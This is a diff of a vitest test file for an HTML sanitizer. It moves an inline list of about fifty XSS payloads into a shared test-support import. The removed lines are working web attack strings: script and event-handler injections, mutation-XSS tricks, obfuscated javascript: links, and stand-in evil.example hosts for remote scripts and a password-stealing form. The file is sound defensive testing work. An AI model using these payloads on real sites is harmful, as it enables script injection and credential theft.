@@ -1,59 +1,7 @@
 import fc from "fast-check";
 import { expect, it } from "vitest";
+import { payloads } from "#tests/support/html-payloads.ts";
 import { cleanForReading, plainText, sanitizeDescription } from "./sanitize.ts";
-
-/** From the cheat sheets: what has got through other people's sanitizers. */
-const payloads = [
-  "<script>alert(1)</script>",
-  "<scr<script>ipt>alert(1)</scr</script>ipt>",
-  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-  "<img src=x onerror=alert(1)>",
-  "<img/src=x/onerror=alert(1)>",
-  "<image src=x onerror=alert(1)>",
-  "<svg onload=alert(1)>",
-  "<svg><script>alert&#40;1)</script></svg>",
-  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
-  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
-  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  "<template><img src=x onerror=alert(1)></template>",
-  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
-  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
-  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
-  "<iframe src=javascript:alert(1)></iframe>",
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  "<object data=data:text/html,<script>alert(1)</script>></object>",
-  "<embed src=javascript:alert(1)>",
-  "<form action=//evil.example><input name=password><button>Log in</button></form>",
-  "<base href=//evil.example/>",
-  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-  "<link rel=stylesheet href=//evil.example/x.css>",
-  "<style>@import '//evil.example'; body{display:none}</style>",
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  "<p onclick=alert(1) onmouseover='alert(1)' autofocus tabindex=1 onfocus=alert(1)>x</p>",
-  "<a href=javascript:alert(1)>x</a>",
-  '<a href="jAvAsCrIpT:alert(1)">x</a>',
-  '<a href="java\tscript:alert(1)">x</a>',
-  '<a href="java&#x0A;script:alert(1)">x</a>',
-  '<a href=" &#14; javascript:alert(1)">x</a>',
-  '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
-  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example/x">x</a>',
-  "<a href='https://a.example' onclick=alert(1) target=_blank style=color:red id=x class=y>x</a>",
-  "<details open ontoggle=alert(1)>x</details>",
-  "<video><source onerror=alert(1)></video>",
-  "<body onload=alert(1)>",
-  "<!--><img src=x onerror=alert(1)>-->",
-  "<![CDATA[<img src=x onerror=alert(1)>]]>",
-  "<p title='</p><script>alert(1)</script>'>x",
-  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
-  "<b/onmouseover=alert(1)>x</b>",
-  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
-  "<<script>alert(1)//<</script>",
-  "<img src=`x`onerror=alert(1)>",
-];
 
 const tags = "p|br|h2|h3|h4|ul|ol|li|strong|b|em|i|u|s|blockquote|code|hr";
 const harmless = new RegExp(
